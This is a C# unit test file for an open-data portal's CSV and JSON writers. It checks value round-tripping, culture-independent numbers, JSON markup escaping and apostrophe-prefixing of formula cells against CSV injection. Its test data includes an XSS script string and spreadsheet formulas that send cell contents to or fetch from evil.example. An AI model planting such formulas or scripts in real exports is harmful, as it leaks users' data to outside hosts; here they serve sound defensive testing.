using System.Globalization;
using System.Text;
using System.Text.Json;
using CsvHelper;
using Portal.Domain.Model;
using Portal.OpenData;

namespace Portal.Tests.OpenData;

/// <summary>The CSV and JSON writers keep every value intact, whatever characters it holds, and the JSON is safe to paste anywhere.</summary>
public sealed class TableWriterTests
{
    private static readonly string[] Hostile =
    [
        "plain",
        "a, comma",
        "a \"quoted\" word",
        "two\nlines",
        "</script><script>alert('x')</script> & more",
        " leading and trailing spaces ",
        "Ipê Dourado — São Paulo",
        "",
    ];

    [Fact]
    public void Should_Read_Back_Every_Csv_Cell_As_Written()
    {
        var text = WriteCsv(Table());

        using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        var rows = reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
        Assert.Equal(Hostile, rows.Select(row => (string)row["value"]));
        Assert.Equal(Hostile.Select((_, i) => (i * 1.5).ToString("R", CultureInfo.InvariantCulture)), rows.Select(row => (string)row["number"]));
        Assert.Equal("a;b", (string)rows[0]["list"]);
        Assert.Equal("2025-06", (string)rows[0]["date"]);
        Assert.Equal("true", (string)rows[0]["flag"]);
    }

    [Fact]
    public void Should_Write_Csv_Numbers_The_Same_Under_Any_Culture()
    {
        var current = CultureInfo.CurrentCulture;
        try
        {
            CultureInfo.CurrentCulture = CultureInfo.GetCultureInfo("de-DE");
            Assert.Contains(",1.5,", WriteCsv(Table()), StringComparison.Ordinal);
        }
        finally
        {
            CultureInfo.CurrentCulture = current;
        }
    }

    [Fact]
    public void Should_Escape_Markup_And_Quotes_In_The_Json_And_Keep_The_Values()
    {
        using var stream = new MemoryStream();
        JsonTableWriter.Write(Table(), new DateOnly(2026, 6, 30), stream);
        var json = Encoding.UTF8.GetString(stream.ToArray());

        Assert.DoesNotContain('<', json);
        Assert.DoesNotContain('>', json);
        Assert.DoesNotContain('\'', json);
        Assert.DoesNotContain("& more", json, StringComparison.Ordinal);
        using var document = JsonDocument.Parse(json);
        var records = document.RootElement.GetProperty("test").EnumerateArray().ToList();
        Assert.Equal(Hostile, records.Select(r => r.GetProperty("value").GetString()));
        Assert.Equal(JsonValueKind.Array, records[0].GetProperty("list").ValueKind);
        Assert.Equal(JsonValueKind.Null, records[1].GetProperty("date").ValueKind);
        Assert.Equal(JsonValueKind.True, records[0].GetProperty("flag").ValueKind);
    }

    [Fact]
    public void Should_Leave_A_Number_That_Is_Not_Finite_Empty()
    {
        var columns = new ColumnList<double>().Text("id", v => v.ToString(CultureInfo.InvariantCulture)).Number("ratio", v => v, decimals: 3);
        var table = new DataTable<double>("ratios", columns, [double.PositiveInfinity, double.NaN, 0.12345], []);

        Assert.Equal("id,ratio\nInfinity,\nNaN,\n0.12345,0.123\n", WriteCsv(table));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")")]
    [InlineData("=WEBSERVICE(\"https://evil.example/\")")]
    [InlineData("=IMPORTXML(\"https://evil.example/\",\"//a\")")]
    public void Should_Prefix_A_Text_Or_List_Cell_That_Starts_A_Formula_With_An_Apostrophe(string formula)
    {
        var columns = new ColumnList<string>()
            .Text("text", v => v)
            .Word("status", Vocabularies.CommitmentStatus, _ => CommitmentStatus.Planned)
            .List("list", v => [v, "b"]);
        var table = new DataTable<string>("formulas", columns, [formula], ["text"]);

        var row = Assert.Single(ReadCsv(WriteCsv(table)));

        Assert.Equal("'" + formula, row["text"]);
        Assert.Equal("planned", row["status"]);
        Assert.Equal("'" + formula + ";b", row["list"]);
    }

    [Fact]
    public void Should_Write_Negative_Numbers_Dates_And_Flags_As_They_Are()
    {
        var columns = new ColumnList<int>()
            .Number("number", _ => -12.5)
            .Integer("integer", _ => -3)
            .Date("date", _ => PartialDate.TryParse("2025-06", out var d) ? d : null)
            .Boolean("flag", _ => false);
        var table = new DataTable<int>("numbers", columns, [0], ["number"]);

        Assert.Equal("number,integer,date,flag\n-12.5,-3,2025-06,false\n", WriteCsv(table));
    }

    [Fact]
    public void Should_Keep_A_Formula_As_It_Is_In_The_Json()
    {
        var columns = new ColumnList<string>().Text("text", v => v).List("list", v => [v]);
        var table = new DataTable<string>("formulas", columns, ["=1+1", "\t@x"], ["text"]);
        using var stream = new MemoryStream();

        JsonTableWriter.Write(table, new DateOnly(2026, 6, 30), stream);

        using var document = JsonDocument.Parse(stream.ToArray());
        var records = document.RootElement.GetProperty("formulas").EnumerateArray().ToList();
        Assert.Equal(["=1+1", "\t@x"], records.Select(r => r.GetProperty("text").GetString()));
        Assert.Equal("=1+1", records[0].GetProperty("list")[0].GetString());
    }

    private static DataTable<int> Table()
    {
        var columns = new ColumnList<int>()
            .Text("value", i => Hostile[i])
            .Number("number", i => i * 1.5)
            .List("list", i => i == 0 ? ["a", "b"] : [])
            .Date("date", i => i == 0 && PartialDate.TryParse("2025-06", out var d) ? d : null)
            .Boolean("flag", i => i == 0);
        return new DataTable<int>("test", columns, [.. Enumerable.Range(0, Hostile.Length)], ["value"]);
    }

    private static List<IDictionary<string, object>> ReadCsv(string text)
    {
        using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        return [.. reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>()];
    }

    private static string WriteCsv(IDataTable table)
    {
        using var stream = new MemoryStream();
        CsvTableWriter.Write(table, stream);
        return Encoding.UTF8.GetString(stream.ToArray());
    }
}
